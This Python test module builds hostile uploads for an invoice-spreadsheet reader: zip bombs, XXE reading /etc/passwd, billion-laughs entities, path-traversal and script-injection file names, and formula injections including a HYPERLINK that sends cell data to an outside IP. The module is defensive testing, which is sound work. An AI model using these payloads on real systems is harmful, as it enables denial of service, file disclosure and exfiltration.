"""Reports that would hurt whoever reads them without care, by what is wrong with each."""

import gzip
import io
import zipfile
from collections.abc import Callable, Iterable

from synchist.child import MOST_BYTES, UnreadableFile
from synchist.reconciliation.reading import read
from synchist.reconciliation.report import Reading, Report, Unmapped, WrongReport
from tests.uploads import (
    SHEET,
    bomb,
    is_one_sentence,
    laughs,
    peak,
    sheet_of,
    with_part,
    with_parts,
    with_rows,
    workbook,
)

HEADINGS = ("Date", "Transaction Type", "Num", "Customer", "Amount")
HEAD = b"Date,Transaction Type,Num,Customer,Amount\n"
LINE = b"01/31/2026,Invoice,1042,Ashgrove Freight,100.00\n"
MILLION = 1_000_000

BOOK = "xl/workbook.xml"
RELATIONS = "xl/_rels/workbook.xml.rels"


# ---------------------------------------------------------------- how they are made


def csv(*lines: bytes) -> bytes:
    """A list of invoices that begins well."""
    return HEAD + LINE + b"\n".join(lines)


def cells(**by_column: str) -> bytes:
    """A row of csv with something else in one of its cells."""
    told = dict(zip(HEADINGS, LINE.decode().strip().split(","), strict=True)) | by_column
    return ",".join(told.values()).encode()


def xlsx(rows: Iterable[bytes]) -> bytes:
    """A list of invoices whose rows are of this XML."""
    head = b"".join(b'<c t="inlineStr"><is><t>%b</t></is></c>' % one.encode() for one in HEADINGS)
    return with_rows(b"<row>" + head + b"</row>" + b"".join(rows))


def formulas(*amounts: bytes) -> bytes:
    """A list of invoices whose amounts are formulas, the first of them in E2."""
    line = (
        b'<row r="%d"><c><v>46053</v></c><c t="inlineStr"><is><t>Invoice</t></is></c>'
        b'<c><v>1042</v></c><c t="inlineStr"><is><t>Ashgrove</t></is></c>'
        b'<c r="E%d"><f>%b</f></c></row>'
    )
    return xlsx(line % (row, row, one) for row, one in enumerate(amounts, start=2))


def citing(times: int, text: bytes) -> bytes:
    """A workbook that names one shared text so many times."""
    start, _, end = sheet_of(b"#").partition(b"#")
    book = b"http://schemas.openxmlformats.org/spreadsheetml/2006/"
    office = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return with_parts(
        {
            SHEET: start + b'<row><c t="s"><v>0</v></c></row>' * times + end,
            "xl/sharedStrings.xml": b'<?xml version="1.0"?><sst xmlns="%bmain"><si><t>%b</t></si>'
            b"</sst>" % (book, text),
            RELATIONS: b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.'
            b'org/package/2006/relationships"><Relationship Id="rId1" Type="%b/worksheet" '
            b'Target="worksheets/sheet1.xml"/><Relationship Id="rId9" Type="%b/sharedStrings" '
            b'Target="sharedStrings.xml"/></Relationships>' % (office, office),
        }
    )


def packed(*parts: tuple[str, bytes]) -> bytes:
    """An archive of anything; a name may stand in it twice."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return made.getvalue()


def within(levels: int) -> bytes:
    """Archives of ten archives of ten archives …, as in 42.zip."""
    content = packed(("0", b"0" * 10 * MILLION))
    for _ in range(levels):
        content = packed(*((f"{number}.zip", content) for number in range(10)))
    return content


def changed(content: bytes, *changes: tuple[bytes, bytes]) -> bytes:
    """A file with other bytes in place of some."""
    for before, after in changes:
        assert before in content, before
        content = content.replace(before, after)
    return content


def lying() -> bytes:
    """A bomb that says it unpacks to one byte."""
    content = bytearray(bomb(200))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = b"\x01\x00\x00\x00"
    return bytes(content)


def headed(content: bytes, at: int, byte: int) -> bytes:
    """An archive with another byte in the header of each part, and where the directory says it."""
    made = bytearray(content)
    for mark, place in ((b"PK\x03\x04", at), (b"PK\x01\x02", at + 2)):
        found = made.find(mark)
        while found >= 0:
            made[found + place] = byte
            found = made.find(mark, found + 1)
    return bytes(made)


def ole(*streams: str) -> bytes:
    """An OLE file of empty streams; Excel keeps a workbook with a password in such a file."""
    entries = b""
    for name, kind in (("Root Entry", 5), *((stream, 2) for stream in streams)):
        wide = name.encode("utf-16-le")
        entries += wide.ljust(64, b"\0") + (len(wide) + 2).to_bytes(2, "little")
        entries += bytes((kind, 1)) + b"\xff" * 8 + b"\x01\0\0\0" + b"\0" * 36
        entries += b"\xfe\xff\xff\xff" + b"\0" * 8
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + b"\x3e\0\x03\0\xfe\xff\x09\0\x06\0"
    head += b"\0" * 10 + b"\x01\0\0\0" + b"\x01\0\0\0" + b"\0" * 4 + b"\0\x10\0\0"
    head += (b"\xfe\xff\xff\xff" + b"\0" * 4) * 2 + b"\0\0\0\0"
    table = (b"\xfd\xff\xff\xff" + b"\xfe\xff\xff\xff").ljust(512, b"\xff")
    return head.ljust(512, b"\xff") + table + entries.ljust(512, b"\0")


def spreadsheet(table: bytes) -> bytes:
    """An XML Spreadsheet as of 2003."""
    name = b"urn:schemas-microsoft-com:office:spreadsheet"
    return (
        b'<?xml version="1.0"?><Workbook xmlns="%b" xmlns:ss="%b"><Worksheet ss:Name="A"><Table>'
        b"%b</Table></Worksheet></Workbook>" % (name, name, table)
    )


def data(text: bytes, attributes: bytes = b"") -> bytes:
    return b'<Cell %b><Data ss:Type="String">%b</Data></Cell>' % (attributes, text)


def html(rows: bytes) -> bytes:
    head = b"".join(b"<th>%b</th>" % one.encode() for one in HEADINGS)
    return b"<html><body><table><tr>" + head + b"</tr>" + rows + b"</table></body></html>"


# ---------------------------------------------------------------- the files

Files = dict[str, Callable[[], bytes]]

ARCHIVES: Files = {
    "a bomb of one part": lambda: bomb(200),
    "a bomb that lies about its size": lying,
    "a bomb of many parts": lambda: packed(
        *((f"xl/worksheets/sheet{n}.xml", b" " * 20 * MILLION) for n in range(6))
    ),
    "archives within archives": lambda: within(5),
    "an archive in an archive's place": lambda: with_part(SHEET, within(1)),
    "twenty thousand empty parts": lambda: packed(*((str(n), b"") for n in range(20_000))),
    "one part a thousand times": lambda: packed(*[(SHEET, b"<row/>" * 20_000)] * 1_000),
    "parts outside of the archive": lambda: with_parts(
        {"../../../../etc/passwd": b"x", "/etc/cron.d/x": b"x", "C:\\x.exe": b"x"}
    ),
    "a part named by markup": lambda: with_parts({"<script>alert(1)</script>\n.xml": b"x"}),
    "encrypted parts": lambda: headed(workbook(HEADINGS), 6, 1),
    "an encrypted workbook": lambda: ole("EncryptionInfo", "EncryptedPackage"),
    "an OLE file without a workbook": lambda: ole("Workbook"),
    "an OLE file of noise": lambda: ole()[:512] + bytes(range(256)) * 2_000,
    "half an archive": lambda: workbook(HEADINGS)[:2_000],
    "an archive without its directory": lambda: workbook(HEADINGS).partition(b"PK\x01\x02")[0],
    "two archives in one file": lambda: workbook(HEADINGS) + workbook(["b"]),
    "a directory behind a directory": lambda: (
        workbook(HEADINGS) + workbook(["b"]).partition(b"PK\x01\x02")[2]
    ),
    "an unknown compression": lambda: headed(workbook(HEADINGS), 8, 99),
    "another compression than it says": lambda: headed(workbook(HEADINGS), 8, 14),
    "an empty archive": packed,
    "an archive of nothing known": lambda: packed(("a.txt", b"a")),
}

WORKBOOKS: Files = {
    "the last cell alone": lambda: with_rows(
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    ),
    "the first cell and the last": lambda: with_rows(
        b'<row r="1"><c r="A1"><v>1</v></c></row>'
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    ),
    "a list and a cell far below": lambda: xlsx(
        [b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>']
    ),
    "a list and a cell far to the right": lambda: xlsx([b'<row><c r="XFD2"><v>1</v></c></row>']),
    "a row of a thousand millions": lambda: xlsx([b'<row r="1000000000"><c><v>1</v></c></row>']),
    "a row beyond what a machine counts": lambda: xlsx(
        [b'<row r="99999999999999999999999"><c><v>1</v></c></row>']
    ),
    "a cell in row 0": lambda: xlsx([b'<row r="0"><c r="A0"><v>1</v></c></row>']),
    "a cell without a number": lambda: xlsx([b'<row><c r="ZZZZZZZZ"><v>1</v></c></row>']),
    "millions of blank formatted cells": lambda: xlsx(
        [b"<row>" + b'<c s="1"/>' * 16_000 + b"</row>"] * 250
    ),
    "a size that is a lie": lambda: with_part(
        SHEET,
        changed(
            sheet_of(b"<row/>"),
            (b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'),
        ),
    ),
    "a text of 32,000 signs a million times": lambda: citing(MILLION, b"x" * 32_000),
    "a text of ten millions a hundred times": lambda: citing(100, b"x" * 10 * MILLION),
    "signs that no database keeps": lambda: xlsx(
        [
            b'<row><c><v>46053</v></c><c t="inlineStr"><is><t>Invoice</t></is></c>'
            b'<c t="inlineStr"><is><t>_x0000_1042</t></is></c>'
            b'<c t="inlineStr"><is><t>A_x0000_</t></is></c><c><v>1</v></c></row>'
        ]
    ),
    "a text that is not there": lambda: xlsx([b'<row><c t="s"><v>4000000000</v></c></row>']),
    "laughs in a sheet": lambda: with_part(
        SHEET, laughs(sheet_of(b'<row><c t="inlineStr"><is><t>#LAUGH</t></is></c></row>'))
    ),
    "laughs in the workbook": lambda: with_part(
        BOOK, laughs(b"<?xml?><workbook><sheets><sheet>#LAUGH</sheet></sheets></workbook>")
    ),
    "laughs in the relations": lambda: with_part(
        RELATIONS, laughs(b"<?xml?><Relationships>#LAUGH</Relationships>")
    ),
    "a file of the machine as an entity": lambda: with_part(
        SHEET,
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        + sheet_of(b'<row><c t="inlineStr"><is><t>&e;</t></is></c></row>').partition(b"?>")[2],
    ),
    "a sheet that isn't there": lambda: with_part(RELATIONS, b"<Relationships/>"),
    "a sheet that is its own workbook": lambda: with_part(
        RELATIONS,
        b'<Relationships><Relationship Id="rId1" Target="workbook.xml"/></Relationships>',
    ),
    "a hundred thousand sheets": lambda: with_part(
        BOOK,
        b'<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b"<sheets>%b</sheets></workbook>"
        % b"".join(b'<sheet name="s%d" r:id="rId1"/>' % n for n in range(100_000)),
    ),
    "deep nesting": lambda: with_rows(b"<row>" * MILLION),
    "tags never closed": lambda: with_rows(b"<f " * 3 * MILLION + b"</f>"),
    "cells never closed": lambda: with_rows(b"<c " * 3 * MILLION + b"</f>"),
    "a spreadsheet of text documents": lambda: packed(
        ("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<document/>")
    ),
    "a program": lambda: packed(("META-INF/MANIFEST.MF", b"Main-Class: A"), ("A.class", b"\xca")),
    "an open document of a million rows": lambda: packed(
        ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
        ("META-INF/manifest.xml", b"<manifest/>"),
        (
            "content.xml",
            b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:'
            b'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:'
            b'table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
            b'<office:spreadsheet><table:table table:name="A"><table:table-row '
            b'table:number-rows-repeated="1048576"><table:table-cell office:value-type="string" '
            b'table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell>'
            b"</table:table-row></table:table></office:spreadsheet></office:body>"
            b"</office:document-content>",
        ),
    ),
    "a binary workbook of noise": lambda: packed(
        ("xl/workbook.bin", bytes(range(256)) * 40), ("xl/_rels/workbook.bin.rels", b"<x/>")
    ),
}  # fmt: skip

FORMULAS: Files = {
    "brackets within brackets": lambda: formulas(b"(" * 100_000 + b"1" + b")" * 100_000),
    "minus upon minus": lambda: formulas(b"-" * 100_000 + b"1"),
    "sums within sums": lambda: formulas(b"SUM(" * 100 + b"1" + b")" * 100),
    "brackets around references around brackets": lambda: formulas(
        *(b"(" * 50 + b"E%d" % (row + 1) + b")" * 50 for row in range(2, 100))
    ),
    "each refers to the next": lambda: formulas(*(b"E%d+1" % (row + 1) for row in range(2, 5_000))),
    "a circle": lambda: formulas(b"E3", b"E4", b"E2"),
    "its own sum": lambda: formulas(b"SUM(E1:E9)"),
    "a cell far away": lambda: formulas(b"XFD1048576", b"ZZZ9999999"),
    "a sum of everything": lambda: formulas(b"SUM(A1:XFD1048576)"),
    "thousands of large sums": lambda: formulas(*[b"SUM(A1:A190000)"] * 5_000),
    "one formula of many large sums": lambda: formulas(b"+".join([b"SUM(A1:A190000)"] * 5_000)),
    "powers of powers": lambda: formulas(b"9^9^9", b"POWER(9,999999999)"),
    "numbers beyond all bounds": lambda: formulas(
        b"1E999*1E999", b"1E999999*1E999999", b"1E999999999999", b"1E-999999999", b"9" * 100_000
    ),
    "a million factors": lambda: formulas(b"*".join([b"99999999"] * 500_000)),
    "rounded beyond all bounds": lambda: formulas(b"ROUND(1E308,10)", b"ROUND(1,1E9)"),
    "divided by nothing": lambda: formulas(b"1/0", b"0/0", b"1/(E2-E2)"),
    "commands": lambda: formulas(
        b"cmd|' /C calc'!A0",
        b'HYPERLINK("http://198.51.100.1/?"&amp;A1,"pay")',
        b'WEBSERVICE("http://198.51.100.1/")',
        b'IMPORTXML("http://198.51.100.1/","/")',
        b"__import__('os').system('true')",
    ),
}

XML: Files = {
    "laughs in an XML spreadsheet": lambda: laughs(
        spreadsheet(b"<Row>" + data(b"#LAUGH") * 5 + b"</Row>")
    ),
    "laughs of one long word": lambda: changed(
        spreadsheet(b"<Row>" + data(b"&a;" * 100_000) + b"</Row>"),
        (b'<?xml version="1.0"?>', b'<!DOCTYPE x [<!ENTITY a "%b">]>' % (b"x" * 50_000)),
        (b"<!DOCTYPE", b'<?xml version="1.0"?><!DOCTYPE'),
    ),
    "a file of the machine in an XML spreadsheet": lambda: changed(
        spreadsheet(b"<Row>" + data(b"&e;") + b"</Row>"),
        (
            b'<?xml version="1.0"?>',
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        ),
    ),
    "a row far below": lambda: spreadsheet(b'<Row ss:Index="999999999"/>'),
    "a row before the first": lambda: spreadsheet(
        b'<Row ss:Index="-5">' + data(b"a", b'ss:Index="-7"') + b"</Row>"
    ),
    "an index that is no number": lambda: spreadsheet(b'<Row ss:Index="%b"/>' % (b"9" * 5_000)),
    "a cell far to the right in each row": lambda: spreadsheet(
        (b"<Row>" + data(b"1", b'ss:Index="16384"') + b"</Row>") * 90_000
    ),
    "a blank cell far to the right in each row": lambda: spreadsheet(
        b'<Row><Cell ss:Index="16384"/></Row>' * 190_000
    ),
    "a row far below in each of many sheets": lambda: spreadsheet(
        (b'<Row ss:Index="200000">' + data(b"1") + b"</Row></Table></Worksheet><Worksheet><Table>")
        * 50_000
    ),
    "elements within elements": lambda: spreadsheet(b"<Row>" * MILLION + b"</Row>" * 700_000),
    "cells within cells": lambda: spreadsheet(
        b"<Row>" + b"<Cell>" * 400_000 + b"</Cell>" * 400_000 + b"</Row>"
    ),
    "many thousand attributes": lambda: spreadsheet(
        b"<Row " + b" ".join(b'a%d=""' % n for n in range(200_000)) + b"/>"
    ),
    "half an XML spreadsheet": lambda: spreadsheet(b"<Row>" + data(b"a"))[:-60],
    "an XML spreadsheet that says utf-16": lambda: changed(
        spreadsheet(b"<Row/>"), (b'"1.0"', b'"1.0" encoding="utf-16"')
    ),
}

HTML: Files = {
    "a million cells": lambda: html(b"<tr>" + b"<td>1</td>" * 900_000),
    "a million rows": lambda: html(b"<tr><td>1" * MILLION),
    "tags without end": lambda: html(b"<td " * 2 * MILLION),
    "tags of unclosed quotes": lambda: html(b'<td a="' * MILLION),
    "comments without end": lambda: html(b"<!--" * 2 * MILLION),
    "sections without end": lambda: html(b"<![CDATA[" * MILLION),
    "instructions without end": lambda: html(b"<?" * 4 * MILLION),
    "declarations without end": lambda: html(b"<!a" * 2 * MILLION),
    "end tags without end": lambda: html(b"</td" * 2 * MILLION),
    "a script without end": lambda: html(b"<script>" + b"</scrip" * MILLION),
    "less than, less than": lambda: html(b"<" * 8 * MILLION),
    "ampersands": lambda: html(b"<td>" + b"&" * 8 * MILLION),
    "a cell in many thousand pieces": lambda: html(b"<td>" + b"xx<b>" * 400_000),
    "wide cells in each row": lambda: html(b"<tr><td colspan=99>1</td>" * 210_000),
    "wide cells in one row": lambda: html(b"<tr>" + b"<td colspan=99></td>" * 100_000),
    "a cell as wide as the world": lambda: html(b"<tr><td colspan=99999999999999>1</td>"),
    "half signs": lambda: html(b"<td>&#xD800;&#0;&#x110000;&#99999999999;"),
    "one attribute of millions of signs": lambda: html(b"<td a=" + b"x" * 8 * MILLION),
    "a million attributes of a cell": lambda: html(b"<td " + b"a=1 " * 2 * MILLION + b">"),
}

TEXT: Files = {
    "one line of nine millions": lambda: csv(b"x" * 9 * MILLION),
    "one quoted cell of nine millions": lambda: csv(b'"' + b"x" * 9 * MILLION + b'"'),
    "a quote that is never closed": lambda: csv(b'01/31/2026,Invoice,"1043', *[LINE] * 500),
    "a million delimiters": lambda: csv(b"," * 9 * MILLION),
    "a million quotes": lambda: csv(b'"' * 9 * MILLION),
    "a million short lines": lambda: csv(b"\n" * 9 * MILLION),
    "old line ends": lambda: csv(*[LINE] * 50).replace(b"\n", b"\r"),
    "200,001 rows": lambda: csv(*[cells()] * 200_000),
    "101 columns": lambda: csv(b"," * 100 + b"x"),
    "NULs": lambda: csv(b"\0" * 1_000),
    "half signs in utf-8": lambda: csv(b"\xed\xa0\x80,\xff\xfe"),
    "bytes of no encoding": lambda: csv(b"\x81\x8d\x8f\x90\x9d"),
    "utf-16 cut in half": lambda: csv().decode().encode("utf-16")[:-1],
    "half signs in utf-16": lambda: csv().decode().encode("utf-16") + b"\x00\xd8",
    "utf-16 the other way round": lambda: b"\xff\xfe" + csv().decode().encode("utf-16-be"),
    "utf-32": lambda: csv().decode().encode("utf-32"),
    "utf-8 that says utf-16": lambda: b"\xff\xfe" + csv(),
    "utf-7": lambda: b"+/v8-" + csv(),
    "long runs of digits": lambda: csv(
        cells(Amount="9" * 9_000), cells(Amount="9" * 900_000), cells(Date="9" * 9_000)
    ),
    "many thousands": lambda: csv(b'01/31/2026,Invoice,1,A,"1%b.00"' % (b",000" * 2_000)),
    "numbers of no account": lambda: csv(
        *(
            cells(Amount=one)
            for one in ("1e400", "NaN", "inf", "-0", "-0.00", "1" + "0" * 30, "1e-400", "0x10")
        )
    ),
    "amounts beyond what a column holds": lambda: csv(
        *[cells(Amount="99999999999999.00")] * 10,
        *[cells(Amount='"999,999,999,999,999,999.99"')] * 10,
    ),
    "digits of other scripts": lambda: csv(
        cells(Amount="١٢٣.٤٥", Date="٠١/٣١/٢٠٢٦"), cells(Amount="²³", Date="3/³/2026")
    ),
    "long runs of spaces": lambda: csv(
        cells(Amount="1" + " " * 900_000 + "1", Date=" " * 900_000 + "x")
    ),
    "thousands of brackets": lambda: csv(cells(Amount="(" * 400_000 + "1" + ")" * 400_000)),
    "total, total, total": lambda: csv(b"total " * 150_000, b"total - " * 100_000, b"subtotal" * 9),
    "dates of dates": lambda: csv(*[cells(Date="1/1" * 300_000), cells(Date="1/1/2026 " * 90_000)]),
    "monday, mondaymonday": lambda: csv(cells(Date="mon" * 300_000)),
    "from to from to": lambda: b"from to " * 100_000 + b"\n" + b"1 2 3 " * 100_000 + b"\n" + csv(),
    "a title of nine millions": lambda: b"\n".join([b"a/r aging " * 90_000] * 9) + b"\n" + csv(),
    "long headings": lambda: b",".join([b"Amount (USD) " * 8_000] * 90) + b"\n" + csv(),
    "one heading a hundred times": lambda: b",".join([b"Amount"] * 100) + b"\n" + csv(),
    "the headings again and again": lambda: HEAD * 60_000,
    "sixty lines above and notes below": lambda: (
        b"\n".join(b",".join(b"a%d" % n for n in range(99)) for _ in range(58))
        + b"\n" + csv(*[b",,note"] * 100_000)
    ),
    "groups that never end, then ends": lambda: csv(
        *(b"Customer %d" % n for n in range(60_000)), *(b"Total x%d" % n for n in range(60_000))
    ),
    "wide rows that are no transactions": lambda: (
        b"Date,Type,Num,Amount" + b",x" * 90 + b"\n" + (b"Date" + b",Num" * 24 + b"\n") * 40_000
    ),
    "a date in each year": lambda: csv(
        *(cells(Date=f"{month}/{day}/{year}") for year in ("0000", "9999", "00", "99")
          for month, day in ((0, 0), (13, 13), (99, 99), (2, 30)))
    ),
}  # fmt: skip

OTHERS: Files = {
    "nothing": lambda: b"",
    "one byte": lambda: b"\0",
    "only the mark of an encoding": lambda: b"\xef\xbb\xbf",
    "only the mark of utf-16": lambda: b"\xff\xfe",
    "only blanks": lambda: b" \n\t\r\n" * 1_000_000,
    "a PDF": lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"x" * 1_000,
    "a picture": lambda: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)),
    "a program of this machine": lambda: b"\x7fELF\x02\x01\x01" + bytes(1_000),
    "a program of another": lambda: b"MZ\x90\0" + bytes(1_000),
    "a compressed list": lambda: gzip.compress(csv()),
    "JSON": lambda: b'{"Date": "01/31/2026"}',
    "deep JSON": lambda: b"[" * MILLION,
    "a byte too many": lambda: csv(b"x" * MOST_BYTES),
}

FILES: Files = {**ARCHIVES, **WORKBOOKS, **FORMULAS, **XML, **HTML, **TEXT, **OTHERS}

NAMES = (
    "../../../etc/passwd.csv",
    "/",
    "",
    "a\nb\r\nc.csv",
    "<script>alert(1)</script>.csv",
    "[pay](javascript:alert(1)).csv",
    "nul\x00.csv",
    "half\ud800.csv",
    "--help",
    "x" * 5_000,
    "\u202egnp.csv",
)
"""What an upload may be called."""


# ---------------------------------------------------------------- what may come of them


def answer(
    content: bytes, name: str = "report.xlsx", reading: Reading | None = None
) -> Report | str:
    """The report in a file, or the one sentence that is said of it."""
    before = peak()
    try:
        report = read(name, content, "invoice", reading)
    except (UnreadableFile, WrongReport, Unmapped) as error:
        is_one_sentence(str(error))
        return str(error)
    finally:
        assert peak() - before < 100 * 2**20
    assert report.rows_read == report.used + sum(report.skipped.values())
    assert not any(
        "\0" in text
        for column in ("reference", "party", "also")
        for text in report.documents[column]
    )
    assert report.documents_total == sum(map(int, report.documents["amount"]))
    return report
